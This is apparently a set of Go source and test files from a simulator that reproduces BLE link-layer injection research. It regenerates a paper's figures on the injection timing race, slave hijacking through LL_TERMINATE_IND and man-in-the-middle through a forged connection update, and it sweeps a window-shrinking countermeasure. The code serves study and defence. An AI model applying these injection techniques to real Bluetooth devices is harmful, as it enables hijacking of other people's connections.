// over paired clean and attacked runs.
func BenchmarkIDSValidation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.IDSValidation(experiments.Options{
			TrialsPerPoint: 2, SeedBase: uint64(i)*100 + 5000, Parallel: 1,
		}); err != nil {
			b.Fatal(err)
		}
	}
}
