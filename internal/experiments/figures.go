package experiments

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/pdu"
	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// TableIFrameFormat regenerates Table I: the LE 1M frame format, with the
// sizes coming from the live codec rather than constants.
func TableIFrameFormat() *Table {
	p := pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: make([]byte, 12)}
	raw := p.Marshal()
	return &Table{
		Title:  "Table I — frame format for LE 1M",
		Header: []string{"field", "size", "notes"},
		Rows: [][]string{
			{"Preamble", "1 byte", "receiver frame detection"},
			{"Access Address", fmt.Sprintf("%d bytes", phy.AccessAddressBytes), "advertising vs connection"},
			{"PDU", fmt.Sprintf("variable (example: %d bytes)", len(raw)), "2-byte header + payload"},
			{"CRC", fmt.Sprintf("%d bytes", phy.CRCBytes), "poly x²⁴+x¹⁰+x⁹+x⁶+x⁴+x³+x+1"},
		},
		Notes: []string{
			fmt.Sprintf("a 14-byte PDU airs in %v at LE 1M (the paper's 22-byte / 176 µs frame)",
				phy.LE1M.AirTime(14)),
		},
	}
}

// TableIIConnectReq regenerates Table II by marshalling a CONNECT_REQ and
// reporting each field's offset and bytes from the wire image.
func TableIIConnectReq() *Table {
	req := pdu.ConnectReq{
		InitAddr:      ble.MustParseAddress("C1:11:11:11:11:11"),
		AdvAddr:       ble.MustParseAddress("C2:22:22:22:22:22"),
		AccessAddress: 0x50655641,
		CRCInit:       0xABCDEF,
		WinSize:       2, WinOffset: 7, Interval: 36, Latency: 0, Timeout: 100,
		ChannelMap: ble.AllChannels, Hop: 9, SCA: ble.SCA31to50ppm,
	}
	raw := req.Marshal()
	payload := raw[2:]
	fields := []struct {
		name string
		off  int
		n    int
	}{
		{"Init. addr.", 0, 6}, {"Adv. addr.", 6, 6}, {"Access addr.", 12, 4},
		{"CRCInit", 16, 3}, {"WinSize", 19, 1}, {"WinOffset", 20, 2},
		{"Hop interval", 22, 2}, {"Latency", 24, 2}, {"Timeout", 26, 2},
		{"Channel Map", 28, 5}, {"Hop increment + SCA", 33, 1},
	}
	t := &Table{
		Title:  "Table II — CONNECT_REQ LL PDU layout (from the live codec)",
		Header: []string{"field", "offset", "size", "wire bytes"},
	}
	for _, f := range fields {
		t.Rows = append(t.Rows, []string{
			f.name, fmt.Sprintf("%d", f.off), fmt.Sprintf("%d", f.n),
			fmt.Sprintf("% x", payload[f.off:f.off+f.n]),
		})
	}
	t.Notes = append(t.Notes, fmt.Sprintf("total payload %d bytes", len(payload)))
	return t
}

// figRig is a minimal bulb+phone rig with an event trace.
type figRig struct {
	w     *host.World
	bulb  *devices.Lightbulb
	phone *devices.Smartphone
}

func newFigRig(seed uint64, interval uint16) *figRig {
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	r := &figRig{w: w}
	r.bulb = devices.NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb", Position: phy.Position{X: 0}}))
	r.phone = devices.NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}}),
		devices.SmartphoneConfig{ConnParams: link.ConnParams{Interval: interval}, ActivityInterval: -1})
	return r
}

func (r *figRig) connect() error {
	r.bulb.Peripheral.StartAdvertising()
	r.phone.Connect(r.bulb.Peripheral.Device.Address())
	r.w.RunFor(2 * sim.Second)
	if !r.phone.Central.Connected() {
		return fmt.Errorf("experiments: figure rig connection failed")
	}
	return nil
}

// Fig1ConnectionEvents regenerates Fig. 1: two consecutive connection
// events with their anchor points, T_IFS response gaps and hop.
func Fig1ConnectionEvents(seed uint64) (*Table, error) {
	r := newFigRig(seed, 24)
	type frameObs struct {
		src     string
		ch      uint8
		at, end sim.Time
	}
	var frames []frameObs
	r.w.Medium.AddObserver(obsFunc(func(o medium.TxObservation) {
		if o.Channel.IsData() {
			frames = append(frames, frameObs{o.Source, uint8(o.Channel), o.StartAt, o.EndAt})
		}
	}))
	if err := r.connect(); err != nil {
		return nil, err
	}
	t := &Table{
		Title:  "fig1 — two consecutive connection events",
		Header: []string{"frame", "device", "channel", "start", "gap from previous"},
		Notes: []string{
			"slave responses follow the master by T_IFS = 150 µs; anchors are one interval apart",
		},
	}
	if len(frames) < 4 {
		return nil, fmt.Errorf("experiments: captured %d frames", len(frames))
	}
	take := frames[len(frames)-4:]
	for i, f := range take {
		gap := "-"
		if i > 0 {
			gap = f.at.Sub(take[i-1].end).String()
		}
		role := "M→S (anchor)"
		if f.src == "bulb" {
			role = "S→M (response)"
		}
		t.Rows = append(t.Rows, []string{role, f.src, fmt.Sprintf("%d", f.ch), f.at.String(), gap})
	}
	return t, nil
}

// Fig2ConnectionUpdate regenerates Fig. 2: the connection update procedure
// with its instant and transmit window.
func Fig2ConnectionUpdate(seed uint64) (*Table, error) {
	r := newFigRig(seed, 24)
	if err := r.connect(); err != nil {
		return nil, err
	}
	var anchors []sim.Time
	r.bulb.Peripheral.Conn().OnEvent = func(e link.EventInfo) {
		if !e.Missed {
			anchors = append(anchors, e.Anchor)
		}
	}
	if err := r.phone.Central.Conn().RequestConnectionUpdate(2, 4, 48, 0, 200); err != nil {
		return nil, err
	}
	r.w.RunFor(3 * sim.Second)
	if len(anchors) < 8 {
		return nil, fmt.Errorf("experiments: too few anchors")
	}
	t := &Table{
		Title:  "fig2 — connection update procedure (interval 24 → 48, WinOffset 4)",
		Header: []string{"anchor gap", "duration", "interpretation"},
		Notes: []string{
			"at the instant, the slave waits 1.25 ms + WinOffset×1.25 ms past the old anchor grid,",
			"then the new interval applies (paper Fig. 2)",
		},
	}
	for i := 1; i < len(anchors); i++ {
		gap := anchors[i].Sub(anchors[i-1])
		interp := "old interval (30 ms)"
		switch {
		case gap > 80*sim.Millisecond:
			interp = "update window: old interval + 1.25 ms + offset"
		case gap > 45*sim.Millisecond:
			interp = "new interval (60 ms)"
		}
		t.Rows = append(t.Rows, []string{
			fmt.Sprintf("%d→%d", i-1, i), gap.String(), interp,
		})
	}
	return t, nil
}

// Fig3AttackOverview regenerates Fig. 3: the injection race inside the
// widened receive window, with measured timings from a real attack run.
func Fig3AttackOverview(seed uint64) (*Table, error) {
	s, err := newScene("lightbulb", seed, false)
	if err != nil {
		return nil, err
	}
	if err := s.connect(); err != nil {
		return nil, err
	}
	var masterTx []sim.Time
	s.w.Medium.AddObserver(obsFunc(func(o medium.TxObservation) {
		if o.Source == "phone" && o.Channel.IsData() {
			masterTx = append(masterTx, o.StartAt)
		}
	}))
	var rep *injectable.Report
	err = s.attacker.InjectWrite(s.bulb.ControlHandle(), devices.PowerCommand(true),
		func(r injectable.Report) { rep = &r })
	if err != nil {
		return nil, err
	}
	s.w.RunFor(60 * sim.Second)
	if rep == nil || !rep.Success {
		return nil, fmt.Errorf("experiments: fig3 injection failed")
	}
	last := rep.Attempts[len(rep.Attempts)-1]
	var masterAt sim.Time
	for _, m := range masterTx {
		if m > last.TxStart.Add(-sim.Millisecond) && m < last.TxStart.Add(sim.Millisecond) {
			masterAt = m
		}
	}
	t := &Table{
		Title:  "fig3 — attack overview: the race inside the widened receive window",
		Header: []string{"event", "time", "comment"},
		Rows: [][]string{
			{"injected frame start (t_a)", last.TxStart.String(), "at the estimated window opening"},
			{"legitimate master frame (t_m)", masterAt.String(),
				fmt.Sprintf("%v after the injection", masterAt.Sub(last.TxStart))},
			{"injected frame end (t_a+d_a)", last.TxEnd.String(), ""},
			{"slave response (t_s)", last.SlaveAt.String(),
				fmt.Sprintf("%v after injected frame end ≈ T_IFS", last.SlaveAt.Sub(last.TxEnd))},
		},
		Notes: []string{fmt.Sprintf("success on attempt %d — the slave anchored on the attacker's frame", last.Number)},
	}
	return t, nil
}

// Fig4WindowWidening regenerates Fig. 4: the widening formula across Hop
// Intervals and SCA combinations (eq. 4/5).
func Fig4WindowWidening() *Table {
	t := &Table{
		Title:  "fig4 — window widening w = (SCA_M+SCA_S)/10⁶ × interval + 32 µs",
		Header: []string{"hopInterval", "interval", "w (50+20 ppm)", "w (500+500 ppm)", "w after 4 missed events"},
	}
	for _, hi := range []uint16{6, 25, 50, 75, 100, 150, 3200} {
		interval := sim.Duration(hi) * ble.ConnUnit
		t.Rows = append(t.Rows, []string{
			fmt.Sprintf("%d", hi),
			interval.String(),
			link.WindowWidening(50, 20, interval).String(),
			link.WindowWidening(500, 500, interval).String(),
			link.WindowWidening(50, 20, 5*interval).String(),
		})
	}
	t.Notes = append(t.Notes, "the slave accepts any matching frame starting within ±w of the predicted anchor")
	return t
}

// Fig5InjectionOutcomes regenerates Fig. 5: the three outcomes of an
// injection attempt, reproduced deterministically at the medium level.
func Fig5InjectionOutcomes(seed uint64) (*Table, error) {
	t := &Table{
		Title:  "fig5 — three possible outcomes of an injection attempt",
		Header: []string{"situation", "t_a", "t_m", "injected ends before master?", "slave locked", "frame survived"},
		Notes: []string{
			"a) injected fits before the master's frame → success",
			"b) tail collision → success only if capture/phase favours the attacker",
			"c) master first → the slave anchors on the legitimate frame",
		},
	}
	cases := []struct {
		name        string
		payloadLen  int
		masterDelay sim.Duration
	}{
		{"a) no collision", 2, 120 * sim.Microsecond},   // 80 µs frame, master 120 µs later
		{"b) tail collision", 14, 40 * sim.Microsecond}, // 176 µs frame, master inside it
		{"c) master first", 14, -20 * sim.Microsecond},  // master beats the injection
	}
	for _, c := range cases {
		sched := sim.NewScheduler()
		med := medium.New(sched, sim.NewRNG(seed), medium.Config{})
		attacker := med.NewRadio(medium.RadioConfig{Name: "attacker", Position: phy.Position{X: 1, Y: 1.7}})
		master := med.NewRadio(medium.RadioConfig{Name: "master", Position: phy.Position{X: 2}})
		slave := med.NewRadio(medium.RadioConfig{Name: "slave", Position: phy.Position{X: 0}})
		slave.SetAccessAddress(0x71764129)
		slave.StartListening()

		frame := func(n int) medium.Frame {
			p := pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: make([]byte, n-2)}
			raw := p.Marshal()
			return medium.Frame{Mode: phy.LE1M, AccessAddress: 0x71764129, PDU: raw, CRC: crc.Compute(0x123456, raw)}
		}
		var got *medium.Received
		slave.OnFrame = func(rx medium.Received) { got = &rx }

		tA := sim.Time(100 * sim.Microsecond)
		tM := tA.Add(c.masterDelay)
		first, firstIsAttacker := tA, true
		second := tM
		if tM < tA {
			first, firstIsAttacker = tM, false
			second = tA
		}
		sched.At(first, "first", func() {
			if firstIsAttacker {
				attacker.Transmit(frame(c.payloadLen))
			} else {
				master.Transmit(frame(14))
			}
		})
		sched.At(second, "second", func() {
			if firstIsAttacker {
				master.Transmit(frame(14))
			} else {
				attacker.Transmit(frame(c.payloadLen))
			}
		})
		sched.RunFor(sim.Millisecond)

		lockedInjected := got != nil && got.StartAt == tA
		survived := got != nil && !got.Corrupted && lockedInjected
		endsBefore := tA.Add(phy.LE1M.AirTime(c.payloadLen)) <= tM
		t.Rows = append(t.Rows, []string{
			c.name, tA.String(), tM.String(),
			fmt.Sprintf("%t", endsBefore),
			fmt.Sprintf("injected=%t", lockedInjected),
			fmt.Sprintf("%t", survived),
		})
	}
	return t, nil
}

// Fig6SlaveHijack regenerates Fig. 6 as a machine-checked run of scenario
// B with its timeline.
func Fig6SlaveHijack(seed uint64) (*Table, error) {
	out, err := RunScenarioB("lightbulb", seed, false)
	if err != nil {
		return nil, err
	}
	return &Table{
		Title:  "fig6 — slave hijacking (LL_TERMINATE_IND injection)",
		Header: []string{"step", "result"},
		Rows: [][]string{
			{"inject LL_TERMINATE_IND", fmt.Sprintf("succeeded after %d attempt(s)", out.Attempts)},
			{"legitimate slave exits", "yes (acknowledged the terminate)"},
			{"master keeps the connection", fmt.Sprintf("%t", out.Success)},
			{"forged Device Name served", fmt.Sprintf("%t (\"Hacked\")", out.Success)},
		},
	}, nil
}

// Fig7MitM regenerates Fig. 7 as a machine-checked run of scenario D.
func Fig7MitM(seed uint64) (*Table, error) {
	out, err := RunScenarioD("smartwatch", seed, false)
	if err != nil {
		return nil, err
	}
	return &Table{
		Title:  "fig7 — man-in-the-middle via forged CONNECTION_UPDATE",
		Header: []string{"step", "result"},
		Rows: [][]string{
			{"forged update accepted by slave", "yes"},
			{"slave moves to attacker schedule at instant", "yes"},
			{"attacker serves both legs on one radio", fmt.Sprintf("%t", out.Success)},
			{"traffic rewritten on the fly", fmt.Sprintf("%t", out.Success)},
		},
	}, nil
}

// obsFunc adapts a function to medium.Observer.
type obsFunc func(medium.TxObservation)

// ObserveTx implements medium.Observer.
func (f obsFunc) ObserveTx(o medium.TxObservation) { f(o) }
