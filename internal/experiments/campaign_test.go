package experiments

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"

	"injectable/internal/campaign"
)

// TestParallelSweepByteIdentical is the determinism proof behind the
// -parallel flag: for the same seed, an 8-worker campaign must render the
// exact bytes a serial run renders — trial worlds, collation order and
// stats all independent of worker count and completion order.
func TestParallelSweepByteIdentical(t *testing.T) {
	render := func(parallel int) string {
		exp, err := Experiment1HopInterval(Options{TrialsPerPoint: 3, Parallel: parallel})
		if err != nil {
			t.Fatalf("parallel=%d: %v", parallel, err)
		}
		return exp.Table().Render()
	}
	serial := render(1)
	for _, workers := range []int{2, 8} {
		if got := render(workers); got != serial {
			t.Errorf("parallel=%d output differs from serial:\n%s\n--- vs ---\n%s",
				workers, got, serial)
		}
	}
}

// TestParallelProgressOrderDeterministic: progress callbacks ride the
// collated stream, so even the stderr progress display is reproducible.
func TestParallelProgressOrderDeterministic(t *testing.T) {
	trace := func(parallel int) []string {
		var mu sync.Mutex
		var seen []string
		_, err := Experiment2PayloadSize(Options{
			TrialsPerPoint: 2,
			Parallel:       parallel,
			Progress: func(point string, trial int) {
				mu.Lock()
				seen = append(seen, point+"#"+string(rune('0'+trial)))
				mu.Unlock()
			},
		})
		if err != nil {
			t.Fatal(err)
		}
		return seen
	}
	serial := trace(1)
	parallel := trace(4)
	if strings.Join(serial, " ") != strings.Join(parallel, " ") {
		t.Errorf("progress order differs:\nserial:   %v\nparallel: %v", serial, parallel)
	}
}

// TestSweepPanicIsolation injects a panicking trial into a non-fail-fast
// campaign built from experiment trial configs and checks the run
// completes with the panic recorded in Metrics, no other trial lost.
func TestSweepPanicIsolation(t *testing.T) {
	spec := &campaign.Spec{Name: "panicky-sweep", SeedBase: 1000, Points: []campaign.Point{{
		Label:  "hopInterval=36",
		Trials: 6,
		Seed:   func(i int) uint64 { return 1000 + uint64(i) },
		Run: func(tr campaign.Trial) (any, error) {
			if tr.Index == 2 {
				panic("injected trial crash")
			}
			return RunTrial(TrialConfig{Seed: tr.Seed, Interval: 36})
		},
	}}}
	out, err := (&campaign.Runner{Workers: 3}).Run(spec)
	if err != nil {
		t.Fatalf("campaign died instead of isolating the panic: %v", err)
	}
	if out.Metrics.Trials != 6 || out.Metrics.Failed != 1 || out.Metrics.Panicked != 1 {
		t.Fatalf("metrics = %+v", out.Metrics)
	}
	var pe *campaign.PanicError
	if !errors.As(out.Results[2].Err, &pe) {
		t.Fatalf("trial 2 err = %v", out.Results[2].Err)
	}
	for i, res := range out.Results {
		if i == 2 {
			continue
		}
		if res.Err != nil {
			t.Errorf("healthy trial %d lost: %v", i, res.Err)
		}
		if !res.Value.(TrialResult).Success {
			t.Errorf("trial %d injection failed", i)
		}
	}
}

// TestSweepJSONLStream: Options.JSONL captures one line per trial plus
// campaign/metrics framing, with the trial payload marshalled.
func TestSweepJSONLStream(t *testing.T) {
	var buf bytes.Buffer
	_, err := AblationInjectionTiming(Options{TrialsPerPoint: 2, JSONL: &buf})
	if err != nil {
		t.Fatal(err)
	}
	var campaigns, results, metrics int
	for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
		var probe struct {
			Kind  string `json:"kind"`
			OK    bool   `json:"ok"`
			Value struct {
				Success  bool `json:"Success"`
				Attempts int  `json:"Attempts"`
			} `json:"value"`
		}
		if err := json.Unmarshal([]byte(line), &probe); err != nil {
			t.Fatalf("bad JSONL line %q: %v", line, err)
		}
		switch probe.Kind {
		case "campaign":
			campaigns++
		case "result":
			results++
			if probe.OK && probe.Value.Attempts == 0 && probe.Value.Success {
				t.Errorf("result line lost its payload: %q", line)
			}
		case "metrics":
			metrics++
		}
	}
	if campaigns != 1 || results != 4 || metrics != 1 {
		t.Fatalf("line counts: %d campaigns, %d results, %d metrics\n%s",
			campaigns, results, metrics, buf.String())
	}
}
