package experiments

import (
	"injectable/internal/ble/crc"
	"injectable/internal/injectable"
	"injectable/internal/obs"
	"injectable/internal/pcap"
	"injectable/internal/sim"
)

// Instrumentation threads observability into a scenario run: a Link Layer
// tracer, a metrics/forensics hub and a pcap capture of the attacker's
// sniffer. The zero value disables everything — the plain RunScenario*
// entry points pass it.
type Instrumentation struct {
	// Tracer observes every stack event in the scenario's world.
	Tracer sim.Tracer
	// Obs collects layer metrics and the injection forensics ledger.
	Obs *obs.Hub
	// Pcap receives every packet the attacker's sniffer captures.
	Pcap *pcap.Writer
}

// capturePcap routes the attacker sniffer's packet stream into the pcap
// writer, re-encoding each PDU with the followed connection's CRCInit the
// way cmd/blesim does for its standalone sniffer.
func capturePcap(sn *injectable.Sniffer, pw *pcap.Writer) {
	sn.OnPacket = func(p injectable.SniffedPacket) {
		var aa, crcInit uint32
		if st := sn.State(); st != nil {
			aa = uint32(st.Params.AccessAddress)
			crcInit = st.Params.CRCInit
		}
		raw := p.PDU.Marshal()
		_ = pw.WritePacket(pcap.Packet{
			At:            p.StartAt,
			AccessAddress: aa,
			PDU:           raw,
			CRC:           crc.Compute(crcInit, raw),
		})
	}
}
