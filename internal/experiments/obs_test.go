package experiments

import (
	"bytes"
	"encoding/json"
	"math"
	"strings"
	"testing"

	"injectable/internal/obs"
)

// TestHistogramQuantileMatchesStats cross-checks the obs histogram's
// bucket-interpolated quantiles against the exact sample quantiles of
// experiments.Stats on identical data. Both use the rank q*(n-1)
// convention. When consecutive samples never gap by more than one
// bucket the estimate lands within one bucket width of the exact
// value; for arbitrary data it must at least fall between the two
// samples bracketing the quantile rank (padded by one bucket width).
func TestHistogramQuantileMatchesStats(t *testing.T) {
	const width = 1.0 // LinearBuckets step below
	quantiles := []float64{0, 0.25, 0.5, 0.75, 0.9, 1}

	build := func(samples []int) (*Stats, obs.HistogramSnapshot) {
		var s Stats
		r := obs.NewRegistry()
		h := r.Histogram("attempts", obs.LinearBuckets(0, width, 40))
		for _, v := range samples {
			s.Add(v)
			h.Observe(float64(v))
		}
		return &s, r.Snapshot().Histograms[0]
	}

	// Dense data: every value 1..20, gaps never exceed a bucket.
	dense := make([]int, 0, 20)
	for v := 1; v <= 20; v++ {
		dense = append(dense, v)
	}
	s, hs := build(dense)
	if hs.Count != int64(len(dense)) {
		t.Fatalf("histogram count = %d, want %d", hs.Count, len(dense))
	}
	for _, q := range quantiles {
		exact, est := s.quantile(q), hs.Quantile(q)
		if math.Abs(est-exact) > width {
			t.Errorf("dense quantile(%v): histogram %v vs exact %v — off by more than one bucket", q, est, exact)
		}
	}
	if hs.Mean() != s.Mean() {
		t.Errorf("histogram mean %v != exact mean %v", hs.Mean(), s.Mean())
	}

	// Sparse tail: bucket resolution can't beat the sample gaps, but the
	// estimate must stay between the rank's bracketing samples.
	sparse := []int{1, 1, 2, 2, 2, 3, 3, 4, 5, 5, 6, 7, 9, 11, 12, 15, 18, 22, 27, 31}
	s, hs = build(sparse)
	sorted := s.sorted()
	for _, q := range quantiles {
		est := hs.Quantile(q)
		rank := q * float64(len(sorted)-1)
		lo := float64(sorted[int(rank)])
		hi := float64(sorted[int(math.Ceil(rank))])
		if est < lo-width || est > hi+width {
			t.Errorf("sparse quantile(%v): histogram %v outside bracketing samples [%v, %v]", q, est, lo, hi)
		}
	}
}

// counterValue extracts one counter from a snapshot (0 when absent).
func counterValue(s *obs.Snapshot, name string) int64 {
	for _, c := range s.Counters {
		if c.Name == name {
			return c.Value
		}
	}
	return 0
}

// TestScenarioAForensicsGolden runs the seeded scenario-A attack with a
// hub attached and checks the forensics ledger against the known-good
// outcome for seed 3, plus the cross-layer invariants every run must
// satisfy.
func TestScenarioAForensicsGolden(t *testing.T) {
	hub := obs.NewHub()
	out, err := RunScenarioAWith("lightbulb", 3, false, Instrumentation{Obs: hub})
	if err != nil {
		t.Fatal(err)
	}
	if !out.Success {
		t.Fatalf("scenario A seed 3 failed: %+v", out)
	}

	// Attempt records (aborts such as connection-lost don't count as
	// attempts in the metrics).
	var recs []obs.InjectionRecord
	for _, r := range hub.Led().Records() {
		if r.Outcome != "connection-lost" {
			recs = append(recs, r)
		}
	}
	if len(recs) != out.Attempts {
		t.Fatalf("ledger has %d attempt records, report says %d", len(recs), out.Attempts)
	}
	if len(recs) != 2 {
		t.Fatalf("seed 3 golden: want 2 attempts, got %d", len(recs))
	}
	if recs[0].Outcome == "success" {
		t.Fatalf("seed 3 golden: first attempt should miss, got %+v", recs[0])
	}
	last := recs[len(recs)-1]
	if last.Outcome != "success" || !last.AnchorAdopted || last.CRCState != obs.CRCStateOK {
		t.Fatalf("seed 3 golden: final attempt = %+v, want clean anchored success", last)
	}
	if !last.WindowSeen || last.TimingMarginUS < 0 || last.TimingMarginUS > last.WindowWidthUS {
		t.Fatalf("successful injection fired outside the observed window: %+v", last)
	}

	// Metrics must agree with the ledger.
	snap := hub.Snapshot()
	attempts := counterValue(snap, "inject.attempts")
	if attempts != int64(len(recs)) {
		t.Fatalf("inject.attempts = %d, ledger has %d records", attempts, len(recs))
	}
	var hitsAndMisses int64
	for _, c := range snap.Counters {
		if c.Name == "inject.hits" || strings.HasPrefix(c.Name, "inject.miss.") {
			hitsAndMisses += c.Value
		}
	}
	if hitsAndMisses != attempts {
		t.Fatalf("hits+misses = %d, attempts = %d", hitsAndMisses, attempts)
	}
	if counterValue(snap, "inject.hits") != 1 {
		t.Fatalf("inject.hits = %d, want 1", counterValue(snap, "inject.hits"))
	}
}

// TestCampaignMetricsDeterministicAcrossWorkers runs the same small
// sweep serially and with four workers and requires the metrics JSONL
// stream to be byte-identical — the property that makes the export
// usable as a regression artifact.
func TestCampaignMetricsDeterministicAcrossWorkers(t *testing.T) {
	bulb, central, attacker := trianglePositions()
	sweep := func(parallel int) []byte {
		var buf bytes.Buffer
		opts := Options{TrialsPerPoint: 2, SeedBase: 4000, Parallel: parallel, Metrics: &buf}
		pts := []SweepPoint{
			{Label: "hi25", SeedBase: 4000, Cfg: TrialConfig{
				Interval: 25, Payload: PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
			}},
			{Label: "hi50", SeedBase: 5000, Cfg: TrialConfig{
				Interval: 50, Payload: PayloadPowerOff,
				BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
			}},
		}
		if _, err := runSweep(opts, "obs-determinism", pts); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}

	serial := sweep(1)
	parallel := sweep(4)
	if !bytes.Equal(serial, parallel) {
		t.Fatalf("metrics stream differs between 1 and 4 workers:\n--- serial ---\n%s\n--- parallel ---\n%s",
			serial, parallel)
	}

	// The stream must be well-formed JSONL ending in the campaign summary.
	lines := strings.Split(strings.TrimSpace(string(serial)), "\n")
	if len(lines) < 4 { // header + 2 points + summary
		t.Fatalf("metrics stream too short: %d lines", len(lines))
	}
	var last map[string]any
	for _, line := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("invalid JSONL line %q: %v", line, err)
		}
		last = m
	}
	if last["kind"] != "campaign-summary" {
		t.Fatalf("final line kind = %v, want campaign-summary", last["kind"])
	}
}
