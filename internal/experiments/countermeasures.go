package experiments

import (
	"fmt"

	"injectable/internal/campaign"
	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// WideningReductionOutcome reports one point of the §VIII widening-
// reduction countermeasure sweep: attack difficulty versus baseline
// connection reliability at a given window scale.
type WideningReductionOutcome struct {
	Scale float64
	// Attack metrics over n attacked connections.
	InjectionFailures int
	AttackStats       Stats
	// Reliability metric over n clean connections: fraction of slave
	// events missed (the paper's warned "side effects on the reliability
	// and stability").
	CleanMissRate float64
	// CleanDrops counts clean connections that died within the window.
	CleanDrops int
}

// cleanOutcome is one clean-reliability run's measurement.
type cleanOutcome struct {
	Missed, Total int
	Dropped       bool
}

// WideningReduction sweeps the slave's receive-window scale (the paper's
// first countermeasure: "reducing the duration of the widening windows")
// and measures both how much harder injection gets and what it costs in
// legitimate reliability. Each scale contributes TrialsPerPoint attacked
// and TrialsPerPoint clean connections, all run as one campaign.
func WideningReduction(opts Options) ([]WideningReductionOutcome, error) {
	opts.applyDefaults()
	n := opts.TrialsPerPoint
	scales := []float64{1.0, 0.5, 0.25, 0.1}
	spec := &campaign.Spec{Name: "widening-reduction", SeedBase: opts.SeedBase}
	out := make([]WideningReductionOutcome, len(scales))
	stepOf := make(map[string]int, 2*len(scales))
	missed := make([]int, len(scales))
	total := make([]int, len(scales))
	for step, scale := range scales {
		out[step].Scale = scale
		scale := scale
		attackLabel := fmt.Sprintf("attack@%.2f", scale)
		cleanLabel := fmt.Sprintf("clean@%.2f", scale)
		stepOf[attackLabel], stepOf[cleanLabel] = step, step
		attackBase := opts.SeedBase + uint64(step*1000)
		cleanBase := opts.SeedBase + uint64(step*1000+500)
		spec.Points = append(spec.Points,
			campaign.Point{
				Label: attackLabel, Trials: n,
				Seed: func(i int) uint64 { return attackBase + uint64(i) },
				Run: func(t campaign.Trial) (any, error) {
					return runScaledTrial(t.Seed, scale)
				},
			},
			campaign.Point{
				Label: cleanLabel, Trials: n,
				Seed: func(i int) uint64 { return cleanBase + uint64(i) },
				Run: func(t campaign.Trial) (any, error) {
					m, tt, dropped, err := runCleanScaled(t.Seed, scale)
					if err != nil {
						return nil, err
					}
					return cleanOutcome{Missed: m, Total: tt, Dropped: dropped}, nil
				},
			})
	}
	collect := campaign.OnResult(func(r campaign.Result) {
		if r.Err != nil {
			return
		}
		step := stepOf[r.Point]
		switch v := r.Value.(type) {
		case TrialResult:
			if v.Success {
				out[step].AttackStats.Add(v.Attempts)
			} else {
				out[step].InjectionFailures++
			}
		case cleanOutcome:
			missed[step] += v.Missed
			total[step] += v.Total
			if v.Dropped {
				out[step].CleanDrops++
			}
		}
		opts.progress(r.Point, r.Index)
	})
	if _, err := opts.runner(collect).Run(spec); err != nil {
		return nil, err
	}
	for step := range out {
		if total[step] > 0 {
			out[step].CleanMissRate = float64(missed[step]) / float64(total[step])
		}
	}
	return out, nil
}

// runScaledTrial is one injection trial with a widening-scaled slave.
func runScaledTrial(seed uint64, scale float64) (TrialResult, error) {
	bulbPos, centralPos, attackerPos := trianglePositions()
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	bulb := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
		Name: "bulb", Position: bulbPos, WideningScale: scale,
	}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "central", Position: centralPos,
	}), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{Interval: 36}, ActivityInterval: -1,
	})
	atk := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: attackerPos,
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	a := injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{MaxAttempts: 60})

	a.Sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if !phone.Central.Connected() || !a.Sniffer.Following() {
		// An over-shrunk window may break even connection setup — that is
		// the countermeasure's cost, reported as an injection failure with
		// a dead connection.
		return TrialResult{}, nil
	}
	var rep *injectable.Report
	err := a.InjectWrite(bulb.ControlHandle(), devices.PowerCommand(true),
		func(r injectable.Report) { rep = &r })
	if err != nil {
		return TrialResult{}, err
	}
	w.RunFor(60 * sim.Second)
	if rep == nil {
		return TrialResult{}, fmt.Errorf("experiments: scaled trial did not settle")
	}
	return TrialResult{Success: rep.Success && bulb.On, Attempts: rep.AttemptCount()}, nil
}

// runCleanScaled measures a clean connection's slave miss rate under the
// scaled window.
func runCleanScaled(seed uint64, scale float64) (missed, total int, dropped bool, err error) {
	bulbPos, centralPos, _ := trianglePositions()
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	bulb := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
		Name: "bulb", Position: bulbPos, WideningScale: scale,
	}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "central", Position: centralPos,
	}), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{Interval: 36}, ActivityInterval: -1,
	})
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(2 * sim.Second)
	conn := bulb.Peripheral.Conn()
	if conn == nil {
		return 0, 1, true, nil
	}
	conn.OnEvent = func(e link.EventInfo) {
		total++
		if e.Missed {
			missed++
		}
	}
	w.RunFor(20 * sim.Second)
	dropped = !phone.Central.Connected() || !bulb.Peripheral.Connected()
	return missed, total, dropped, nil
}

// WideningReductionTable renders the sweep.
func WideningReductionTable(outs []WideningReductionOutcome, n int) *Table {
	t := &Table{
		Title: "§VIII countermeasure — shrinking the receive-window widening",
		Header: []string{"window scale", "injection failures", "mean attempts (when successful)",
